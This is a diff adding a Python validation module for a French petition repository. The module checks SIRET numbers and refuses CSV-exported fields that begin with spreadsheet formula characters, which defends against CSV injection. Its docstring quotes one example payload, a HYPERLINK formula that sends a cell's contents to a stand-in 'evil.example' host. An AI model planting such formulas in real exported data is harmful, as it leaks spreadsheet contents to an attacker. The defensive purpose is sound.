@@ -1,0 +1,92 @@
+"""What the open-data files need from a motion, checked where the motion enters the repository.
+
+Two rules: a SIRET is a valid number (python-stdnum, Luhn) and belongs to the body (its first nine
+digits are the body's SIREN in the referential); and no value that a CSV export carries may start
+the way a spreadsheet starts a formula (`=HYPERLINK("https://evil.example/?"&A1)`). Such a value is
+refused here, with how to fix it, rather than altered on the way out: open data is published as
+recorded, so it must be recorded safe.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from typing import Any
+
+from stdnum.fr import siret as siret_number
+
+from petition.core.model import Motion
+from petition.core.problems import Problem
+from petition.core.referential import Body, Referential
+
+# What LibreOffice and Excel run as a formula when a cell starts with it (hazards.md 19).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_START_NAMES = {"\t": "une tabulation", "\r": "un retour chariot"}
+# Every text of a motion that one of our CSV files carries (`exchange.csvformats` has a column for
+# each; a test holds the two together). `sources` is a list: each URL is checked.
+CSV_TEXT_FIELDS: tuple[tuple[str, ...], ...] = (
+    ("collectivite", "nom"), ("objet",), ("instance",), ("matiere",), ("identifiant",),
+    ("prefecture",),
+)
+SIRET_HELP = "annuaire-entreprises.data.gouv.fr"
+
+
+def formula_start(value: str) -> str:
+    """The character that would make a spreadsheet run `value`, or ""."""
+    return value[0] if value[:1] in FORMULA_STARTS else ""
+
+
+def formula_message(value: str) -> str:
+    """Why `value` is refused and how to fix it, in French, on one line."""
+    start = formula_start(value)
+    said = _START_NAMES.get(start, f"« {start} »")
+    shown = value[:40].replace("\t", "→").replace("\r", "↵").replace("\n", "↵")
+    more = "…" if len(value) > 40 else ""
+    fix = ("reformulez pour commencer par une lettre ou un chiffre (par exemple « Motion : … »)"
+           if start not in _START_NAMES else f"retirez {said} du début")
+    return (f"« {shown}{more} » commence par {said} : un tableur qui ouvre les données ouvertes "
+            f"(CSV) l'exécuterait comme une formule ; {fix}")
+
+
+def _texts(m: Motion) -> Iterator[tuple[tuple[str | int, ...], str]]:
+    for path in CSV_TEXT_FIELDS:
+        value = m.get(*path)
+        if isinstance(value, str):
+            yield path, value
+    sources: Any = m.data.get("sources")
+    if isinstance(sources, list):
+        for index, source in enumerate(sources):
+            url = source.get("url") if isinstance(source, dict) else None
+            if isinstance(url, str):
+                yield ("sources", index, "url"), url
+
+
+def check_formulas(m: Motion) -> Iterator[Problem]:
+    """Every value a CSV export carries that a spreadsheet would run as a formula."""
+    for path, value in _texts(m):
+        if formula_start(value):
+            yield Problem(m.path, m.line(*path), formula_message(value),
+                          field=".".join(str(p) for p in path))
+
+
+def siret_problem(siret: str, body: Body | None) -> str:
+    """What is wrong with a 14-digit SIRET for `body` ("" if nothing): its check digit, and its
+    SIREN against the referential's (communes and EPCI have one; départements and régions do not
+    in the referential, so only the check digit can be verified for them)."""
+    if not siret_number.is_valid(siret):
+        return (f"SIRET « {siret} » : clé de contrôle fausse (un chiffre est faux ou inversé) : "
+                f"recopiez-le depuis {SIRET_HELP}")
+    if body is not None and body.siren and siret[:9] != body.siren:
+        return (f"SIRET « {siret} » : son SIREN {siret[:9]} n'est pas celui de {body.nom} "
+                f"({body.siren}) : vérifiez le SIRET ou le code")
+    return ""
+
+
+def check_siret(m: Motion, ref: Referential) -> Iterator[Problem]:
+    """The motion's SIRET, when it has one (the schema checks its 14 digits)."""
+    siret = m.get("collectivite", "siret")
+    if not isinstance(siret, str) or len(siret) != 14 or not siret.isdigit():
+        return
+    message = siret_problem(siret, ref.body(m.body_type, m.code))
+    if message:
+        yield Problem(m.path, m.line("collectivite", "siret"), message,
+                      field="collectivite.siret")
